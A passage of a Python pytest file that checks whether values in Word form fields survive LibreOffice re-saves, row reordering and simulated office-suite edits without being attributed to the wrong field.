    """A value for every field of a form: distinct texts, boxes T,F,T,F,F,T,…"""
    from generators.readback.fields import read_fields

    with zipfile.ZipFile(form) as package:
        read = read_fields(package.read("word/document.xml"))
    pattern = (True, False, True, False, False, True)
    values: dict[str, str | bool] = {}
    boxes = 0
    for index, (name, field) in enumerate(read.values.items()):
        if field.kind == "checkbox":
            values[name] = pattern[boxes % len(pattern)]
            boxes += 1
        elif name.endswith("_cny"):
            values[name] = f"{1000 + index}.{index % 100:02d}"
        elif name.endswith("_date"):
            values[name] = f"2020-{index % 12 + 1:02d}-{index % 28 + 1:02d}"
        else:
            values[name] = f"{name} 第{index}栏\n<&>"
    values["bank_account"] = "6222021234567890123456"
    assert boxes >= 15
    return values


@pytest.mark.slow
@pytest.mark.parametrize("form", [IC1, FORM])
def test_two_libreoffice_saves_keep_every_value(
    built_project: Path, tmp_path: Path, cli: Callable[..., Result], form: str
) -> None:
    """Save, reopen, save again: every value comes back exactly (check boxes lose their
    names in LibreOffice and are identified by their help text)."""
    values = every_field_pattern(built_project / "output" / form)
    source = filled(built_project, tmp_path, {}, form=form, base=values)
    once = libreoffice_save(source, tmp_path / "once", tmp_path / "profile")
    twice = libreoffice_save(once, tmp_path / "twice", tmp_path / "profile")
    with zipfile.ZipFile(twice) as package:
        document = package.read("word/document.xml").decode("utf-8")
    assert '<w:name w:val=""/>' in document  # LibreOffice did drop the box names
    [row] = read(cli, built_project, twice)
    assert row["fields"] == values
    assert not [p for p in row["problems"] if p["code"] in ("missing", "unidentified-field")]


@pytest.mark.slow
def test_libreoffice_save_of_reordered_fields(
    built_project: Path, tmp_path: Path, cli: Callable[..., Result]
) -> None:
    """Rows moved (attachments reversed, the other-funding boxes swapped): values follow
    their fields, not their positions."""
    source = filled(built_project, tmp_path, {"attach_audit_reports": True})
    root = _document(source)
    attachments = _field_data(root, "attach_licence").xpath("ancestor::w:tbl[1]", namespaces=NS)[0]
    rows = attachments.findall("w:tr", NS)
    for row in rows:
        attachments.remove(row)
    for row in reversed(rows):
        attachments.append(row)
    yes_run = _field_data(root, "other_funding_yes").getparent().getparent()
    no_run = _field_data(root, "other_funding_no").getparent().getparent()
    yes_box, no_box = yes_run.getparent(), no_run.getparent()
    assert yes_box is no_box  # one paragraph: swap the two fields' runs
    yes_index, no_index = yes_box.index(yes_run), yes_box.index(no_run)
    yes_box.insert(no_index, yes_run)
    no_box.insert(yes_index, no_run)
    moved = tmp_path / "moved.docx"
    _write_document(source, moved, root)
    saved = libreoffice_save(moved, tmp_path / "lo", tmp_path / "profile")
    [row] = read(cli, built_project, saved)
    expected = {**VALID, "attach_audit_reports": True}
    for name, value in expected.items():
        assert row["fields"][name] == value, name
    assert row["fields"]["other_funding_yes"] is False
    assert row["problems"] == []


# -- property: what office suites do to fields never moves a value to another field -------

SUITE_EDITS = ("keep", "drop-name", "drop-identity", "drop-bookmarks", "hide")


@pytest.fixture(scope="module")
def filled_xml(built_project: Path, tmp_path_factory: pytest.TempPathFactory) -> bytes:
    form = filled(built_project, tmp_path_factory.mktemp("property"), {})
    with zipfile.ZipFile(form) as package:
        return package.read("word/document.xml")


@settings(max_examples=40, deadline=None, suppress_health_check=list(HealthCheck))
@given(
    edits=st.lists(st.sampled_from(SUITE_EDITS), min_size=50, max_size=50),
    order=st.randoms(use_true_random=False),
)
def test_no_value_is_ever_attributed_to_another_field(
    filled_xml: bytes, edits: list[str], order: Any
) -> None:
    """Names dropped (as LibreOffice does for check boxes), identities lost, bookmarks
    removed, fields hidden, table rows shuffled: every value read is the one typed into
    that field, or the field is reported unreadable or missing; never a neighbour's."""
    from generators.readback.fields import read_fields

    root = etree.fromstring(filled_xml)
    w = f"{{{NS['w']}}}"
    for table in root.iter(f"{w}tbl"):
        rows = table.findall("w:tr", NS)
        shuffled = rows[:]
        order.shuffle(shuffled)
        for row in rows:
            table.remove(row)
        for row in shuffled:
            table.append(row)
    for data, edit in zip(root.iter(f"{w}ffData"), edits, strict=False):
        name = data.find("w:name", NS)
        help_text = data.find("w:helpText", NS)
        if edit in ("drop-name", "drop-identity"):
            name.set(f"{w}val", "")
        if edit == "drop-identity":
            help_text.set(f"{w}val", re.sub(r" \[[a-z0-9_]+\]$", "", help_text.get(f"{w}val")))
        if edit == "drop-bookmarks":
            paragraph = data.getparent().getparent().getparent()
            for mark in paragraph.findall("w:bookmarkStart", NS) + paragraph.findall(
                "w:bookmarkEnd", NS
            ):
                paragraph.remove(mark)
        if edit == "hide":
            run = data.getparent().getparent()
            properties = run.find("w:rPr", NS)
            if properties is None:
                properties = etree.Element(f"{w}rPr")
                run.insert(0, properties)
            etree.SubElement(properties, f"{w}vanish")
    read = read_fields(etree.tostring(root))
    expected = {**{n: False for n in ("type_state", "attach_other_proofs")}, **VALID}
    for name, field in read.values.items():
        if name in expected:
            assert field.value == expected[name], name
        else:
            assert field.value in ("", False), name  # a field VALID leaves empty
